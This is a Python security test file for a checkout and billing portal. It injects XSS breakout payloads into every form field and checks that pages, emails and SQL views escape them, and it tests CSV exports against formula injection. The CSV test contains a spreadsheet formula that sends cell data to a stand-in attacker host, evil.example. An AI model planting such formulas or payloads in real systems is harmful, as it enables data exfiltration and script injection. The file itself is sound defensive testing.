"""Stored and reflected XSS: whatever a customer types is text wherever it is shown again.

A customer signs up on the hosted checkout, edits their billing details, adds payment methods,
cancels with a comment and asks for a sign-in link — typing, in every text field the forms have
(read from the rendered forms, so a new field is typed into too), a payload that breaks out of
text, double- and single-quoted attributes alike. Each answer (error pages echo what was typed)
and then every dashboard page that shows the customer, the SQL console's results, the customer's
own portal pages and every email composed (the operator's digest included) must contain no
element or attribute the payload would create.
"""

from __future__ import annotations

import csv
import email
import email.policy
import io
from dataclasses import dataclass, field
from html.parser import HTMLParser

from httpx import Response

from tenure import features
from tenure.clock import FrozenClock
from tenure.jobs.worker import run_once
from tenure.runtime import Runtime
from tests.security.conftest import World, browser_routes, csrf_of, fill

TEXT_KINDS = {"text", "email", "tel", "search", "url", "textarea"}
# Fields whose format refuses free text: what a customer types there to get the form accepted.
FORMATTED = {
    "card_number": "4242 4242 4242 4242",
    "card_expiry": "12 / 34",
    "card_exp_month": "12",
    "card_exp_year": "2034",
    "card_cvc": "123",
    "iban": "DE89370400440532013000",
    "phone": "+33 1 23 45 67 89",
    "promotion_code": "",
}


def payload(field_name: str) -> str:
    """Breaks out of text and of both kinds of quoted attribute; names the field it was typed in."""
    text = f"'\"><x-pwn/data-pwn={field_name}>"
    return f"{text}@pwn.example" if "email" in field_name else text  # a well-formed address too


@dataclass
class Form:
    action: str
    fields: list[tuple[str, str, str]] = field(default_factory=list)  # (name, kind, value)
    selects: dict[str, list[str]] = field(default_factory=dict)


class _Forms(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.forms: list[Form] = []
        self._select: str | None = None
        self._textarea: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "option" and self._select and a.get("value"):
            self.forms[-1].selects[self._select].append(a["value"])
        if tag == "form":
            self.forms.append(Form(action=a.get("action", "")))
        elif not self.forms or not a.get("name"):
            return
        elif tag == "input":
            kind = a.get("type", "text").lower()
            if kind in ("radio", "checkbox") and "checked" not in a:
                kind = "unchecked"
            self.forms[-1].fields.append((a["name"], kind, a.get("value", "")))
        elif tag == "textarea":
            self.forms[-1].fields.append((a["name"], "textarea", ""))
        elif tag == "select":
            self._select = a["name"]
            self.forms[-1].selects[a["name"]] = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "select":
            self._select = None


def forms_of(html: str) -> list[Form]:
    parser = _Forms()
    parser.feed(html)
    return parser.forms


def typed(form: Form, *, storable: bool, **chosen: str) -> dict[str, str]:
    """The form as submitted: a payload in every text field (a valid value where the format
    demands one, when `storable`), hidden fields as they are, `chosen` for radios and buttons."""
    data: dict[str, str] = {}
    for name, kind, value in form.fields:
        if kind in TEXT_KINDS:
            data[name] = FORMATTED[name] if storable and name in FORMATTED else payload(name)
        elif kind not in ("unchecked", "submit", "button"):
            data.setdefault(name, value)
    for name, options in form.selects.items():
        data[name] = "FR" if "FR" in options else (options[0] if options else "")
    data.update(chosen)
    return data


class _Injected(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        if tag.startswith("x-pwn") or "data-pwn" in names:
            self.found.append(f"<{tag}> from the field {names.get('data-pwn')!r}")


def injected(html: str) -> list[str]:
    parser = _Injected()
    parser.feed(html)
    return parser.found


class Checker:
    def __init__(self) -> None:
        self.problems: list[str] = []
        self.pages = 0

    def page(self, where: str, response: Response) -> Response:
        assert response.status_code < 500, (where, response.status_code)
        self.pages += 1
        self.problems.extend(f"{where}: {found}" for found in injected(response.text))
        return response

    def html(self, where: str, html: str) -> None:
        self.pages += 1
        self.problems.extend(f"{where}: {found}" for found in injected(html))


def sign_up_on_checkout(world: World, check: Checker) -> str:
    """The customer subscribes on the hosted page, typing payloads everywhere; returns the customer."""
    checkout = world.open_checkout(allow_promotion_codes="true")
    browser = world.client()
    path = f"/checkout/{checkout}"
    page = check.page("checkout", browser.get(path))
    pay = next(f for f in forms_of(page.text) if any(n == "card_number" for n, _, _ in f.fields))
    code = next(f for f in forms_of(page.text) if any(n == "promotion_code" for n, _, _ in f.fields))
    check.page(
        "checkout: a refused code", browser.post(path, data=typed(code, storable=False, action="apply_code"))
    )
    check.page("checkout: refused fields", browser.post(path, data=typed(pay, storable=False, action="pay")))
    page = check.page("checkout again", browser.get(path))
    pay = next(f for f in forms_of(page.text) if any(n == "card_number" for n, _, _ in f.fields))
    done = browser.post(
        path, data=typed(pay, storable=True, action="pay", method="card"), follow_redirects=False
    )
    assert done.status_code == 303, done.text
    customer: str = world.api.get(f"/v1/checkout/sessions/{checkout}").json()["customer"]
    assert world.api.get(f"/v1/customers/{customer}").json()["name"] == payload("name")
    return customer


def use_the_portal(world: World, customer: str, check: Checker) -> str:
    """Billing details, payment methods, a cancellation with a comment; returns the subscription."""
    browser = world.client()
    browser.get(world.portal_url(customer))
    details = check.page("billing details", browser.get("/portal/billing-details"))
    (form,) = [f for f in forms_of(details.text) if f.action == "/portal/billing-details"]
    check.page("billing details refused", browser.post(form.action, data=typed(form, storable=False)))
    saved = browser.post(form.action, data=typed(form, storable=True), follow_redirects=False)
    assert saved.status_code == 303, saved.text
    methods = check.page("payment methods", browser.get("/portal/payment-methods"))
    for form in [f for f in forms_of(methods.text) if f.action == "/portal/payment-methods"]:
        check.page("payment method refused", browser.post(form.action, data=typed(form, storable=False)))
        added = browser.post(form.action, data=typed(form, storable=True), follow_redirects=False)
        assert added.status_code == 303, added.text
    subscription: str = world.api.get("/v1/subscriptions", params={"customer": customer}).json()["data"][0][
        "id"
    ]
    base = f"/portal/subscriptions/{subscription}/cancel"
    confirm = check.page("cancel", browser.get(base))
    flow = next(v for n, _, v in forms_of(confirm.text)[0].fields if n == "flow")
    browser.post(base, data={"csrf_token": csrf_of(confirm.text), "flow": flow})
    reason_page = check.page("reason", browser.get(f"{base}/reason", params={"flow": flow}))
    (form,) = [f for f in forms_of(reason_page.text) if f.action.endswith("/cancel/reason")]
    done = browser.post(form.action, data=typed(form, storable=True, reason="other"))
    check.page("cancel done", done)
    for path in ("/portal", "/portal/billing-details", "/portal/payment-methods"):
        check.page(f"portal {path}", browser.get(path))
    return subscription


def ask_for_a_sign_in_link(world: World, check: Checker) -> None:
    browser = world.client()
    page = check.page("login", browser.get(f"/portal/login/{world.configuration}"))
    (form,) = forms_of(page.text)
    check.page("login sent", browser.post(form.action, data=typed(form, storable=True)))


def test_what_customers_type_is_text_everywhere_it_is_shown(
    world: World, runtime: Runtime, clock: FrozenClock
) -> None:
    check = Checker()
    customer = sign_up_on_checkout(world, check)
    subscription = use_the_portal(world, customer, check)
    ask_for_a_sign_in_link(world, check)
    stored = world.api.get(f"/v1/customers/{customer}").json()
    assert stored["email"] == payload("email") and stored["address"]["line1"] == payload("address_line1")
    cancelled = world.api.get(f"/v1/subscriptions/{subscription}").json()
    assert cancelled["cancellation_details"]["comment"] == payload("comment")

    # The operator's digest of yesterday's cancellations quotes the comments: tomorrow, it is sent.
    runtime.settings.operator_email = "ops@example.com"
    runtime.settings.operator_digest = True
    features.load()
    for _ in range(2):
        run_once(runtime)
    clock.advance(86_400)
    for _ in range(3):
        run_once(runtime)

    # What an integrator passes through the API from their own forms is shown by the dashboard too.
    typed_elsewhere = world.business.post(
        "/v1/customers",
        name=payload("api_name"),
        email=payload("api_email"),
        description=payload("description"),
        **{
            "metadata[note]": payload("metadata"),
            "address[line1]": payload("api_address"),
            "address[city]": payload("api_city"),
        },
    )["id"]
    elsewhere_subscription = world.business.subscribe(
        typed_elsewhere, **{"metadata[plan_note]": payload("sub_meta")}
    )
    admin = world.admin
    for path in (
        f"/dashboard/customers/{typed_elsewhere}",
        f"/dashboard/subscriptions/{elsewhere_subscription}",
    ):
        check.page(path, admin.get(path))
    messages = [m["id"] for m in world.api.get("/v1/email_messages", params={"limit": 100}).json()["data"]]
    values = {"customer_id": customer, "subscription_id": subscription}
    for route in browser_routes(world.app, "GET"):
        if not route.path.startswith("/dashboard") or route.path in (
            "/dashboard/login",
            "/dashboard/{path:path}",
        ):
            continue
        if route.params == ["message_id"]:
            for message in messages:
                check.page(route.path, admin.get(fill(route.path, {"message_id": message})))
            continue
        path = fill(route.path, {**world.values(route.path, world.attacker), **values})
        check.page(path, admin.get(path))
        if not route.params:
            check.page(
                f"{path} searched", admin.get(path, params={"q": payload("search"), "tab": "canceled"})
            )
    sql = csrf_of(admin.get("/dashboard/sql").text)
    for view in ("customers", "subscriptions", "cancellations", "cancellation_flows", "events"):
        query = f"SELECT * FROM {view}"
        check.page(f"SQL {view}", admin.post("/dashboard/sql", data={"csrf_token": sql, "query": query}))

    kinds = set()
    for eml in sorted((runtime.settings.data_dir / "outbox").glob("*.eml")):
        message = email.message_from_bytes(eml.read_bytes(), policy=email.policy.default)
        kinds.add(message["X-Tenure-Kind"])
        body = message.get_body(preferencelist=("html",))  # type: ignore[attr-defined]
        assert body is not None
        check.html(f"email {message['X-Tenure-Kind']}", str(body.get_content()))
    assert {"cancellation", "portal_login", "cancellation_digest"} <= kinds, kinds
    assert check.pages >= 40, check.pages
    assert not check.problems, "\n".join(check.problems)


def test_the_detector_sees_every_breakout() -> None:
    """The check above can fail: the payload, unescaped, creates an element in each context."""
    raw = payload("name")
    for context in (f"<p>{raw}</p>", f'<input value="{raw}">', f"<input value='{raw}'>"):
        assert injected(context), context
    escaped = raw.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&#34;")
    assert not injected(f'<p>{escaped}</p><input value="{escaped}">')


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_customer_text_in_csv_exports_cannot_become_a_formula(world: World) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    business = world.business
    subscription = business.subscribe(business.customer(email="csv@example.com", name="@SUM(1+1)"))
    business.cancel(subscription, feedback="other", comment=formula)
    export = world.admin.get("/dashboard/insights.csv", params={"section": "comments"})
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text)))
    (row,) = [r for r in rows if subscription in r]
    assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], row
